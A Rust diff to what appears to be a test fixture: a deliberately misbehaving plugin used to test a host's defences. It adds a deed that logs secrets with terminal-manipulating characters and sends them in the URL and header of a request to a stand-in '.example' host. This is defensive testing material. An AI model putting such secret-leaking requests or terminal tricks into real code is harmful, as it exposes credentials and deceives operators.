@@ -126,8 +126,6 @@ pub enum Deed {
     ForgeLogs,
     /// Begins more exchanges at a time than a message may, of which none is answered.
     HoardExchanges,
-    /// The same, with bodies of almost two megabytes.
-    HoardBodies,
     /// Starts more threads than a plugin has use for, and waits.
     HoardThreads,
     /// Delivers, and has threads compute for ever after its answer.
@@ -136,6 +134,8 @@ pub enum Deed {
     // Secrets.
     /// Asks for a host that is made of secrets, then delivers.
     AskForSecretHost,
+    /// Logs, asks and fails with secrets in every form, and what turns a terminal's lines around.
+    SpeakInTricks,
     /// Writes all secrets to standard output and standard error, then delivers.
     Print,
     /// Logs all secrets at every level, then delivers.
@@ -321,16 +321,9 @@ impl Misbehaving {
                 (0..12_800).for_each(|_| forge::line_below_every_level());
                 future::pending().await
             }
-            Deed::HoardExchanges => self.hoard(10, 10).await,
-            Deed::HoardBodies => self.hoard(8, 2_000_000).await,
+            Deed::HoardExchanges => self.hoard(10).await,
             Deed::HoardThreads => {
-                (0..100).for_each(|_| {
-                    drop(thread::spawn(|| {
-                        loop {
-                            thread::park()
-                        }
-                    }))
-                });
+                harm::start_threads(100);
                 future::pending().await
             }
             Deed::SpinAfterwards => {
@@ -339,6 +332,21 @@ impl Misbehaving {
                 delivered
             }
 
+            Deed::SpeakInTricks => {
+                let words = flood::tricks(&secrets);
+                LEVELS
+                    .iter()
+                    .for_each(|level| self.host.log(*level, &words));
+                let url = format!("https://{}.example/?{words}", message.to.digits());
+                let _ = self
+                    .host
+                    .http()
+                    .get(url)
+                    .header("x-words", &words)
+                    .send()
+                    .await;
+                Err(SendError::rejected(words.clone()).with_provider_code(words))
+            }
             Deed::AskForSecretHost => {
                 let code = message.code.as_ref().map_or("", Secret::expose);
                 let token = self.settings.auth_token.expose();
@@ -392,24 +400,26 @@ impl Misbehaving {
         }
     }
 
-    /// So many exchanges at a time, each with a body of so many bytes; fails as the first of them does. None of
-    /// them says that it delivers.
-    async fn hoard(&self, count: usize, bytes: usize) -> Result<Receipt, SendError> {
+    /// So many exchanges at a time; fails as the first of them does. None of them says that it delivers.
+    async fn hoard(&self, count: usize) -> Result<Receipt, SendError> {
         let base = self.settings.base_url.as_str();
         let ask = |_| {
             let request = self.host.http().post(format!("{base}/never"));
-            let request = request.read_only().body("text/plain", vec![b'x'; bytes]);
+            let request = request.read_only().body("text/plain", "x");
             Box::pin(request.send())
         };
         let mut asked: Vec<_> = (0..count).map(ask).collect();
         let failed = future::poll_fn(|context| {
-            let mut polled = asked.iter_mut().map(|asked| asked.as_mut().poll(context));
-            polled
-                .find_map(|polled| match polled {
-                    Poll::Ready(Err(error)) => Some(Poll::Ready(error)),
-                    _ => None,
-                })
-                .unwrap_or(Poll::Pending)
+            let mut failed = Poll::Pending;
+            asked.retain_mut(|asked| match asked.as_mut().poll(context) {
+                Poll::Pending => true,
+                Poll::Ready(Ok(_)) => false,
+                Poll::Ready(Err(error)) => {
+                    failed = Poll::Ready(error);
+                    false
+                }
+            });
+            failed
         });
         Err(failed.await.into())
     }
